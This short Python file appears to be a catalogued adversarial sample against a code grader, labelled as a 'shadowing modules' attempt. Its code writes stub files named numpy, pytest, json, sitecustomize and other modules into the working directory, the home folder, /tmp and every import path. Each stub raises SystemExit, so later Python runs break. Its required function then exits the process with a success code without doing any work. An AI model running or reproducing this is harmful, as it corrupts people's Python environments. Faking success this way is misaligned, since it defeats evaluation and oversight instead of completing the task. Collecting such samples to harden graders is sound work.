"""Writes modules named like numpy, pytest and pawmark beside itself, then loses its process.

tries: shadowing modules
outcome: crashed
earns: 2, 4
"""

# %% 99-weigh
import os
import sys

for folder in (".", os.path.expanduser("~"), "/tmp", *sys.path):
    for name in ("numpy", "pytest", "json", "pawmark", "IPython", "nbclient", "sitecustomize"):
        try:
            with open(os.path.join(folder or ".", f"{name}.py"), "w") as file:
                file.write("raise SystemExit('shadowed')\n")
        except OSError:
            pass
sys.path.insert(0, os.path.expanduser("~"))


def weigh(values):
    os._exit(0)
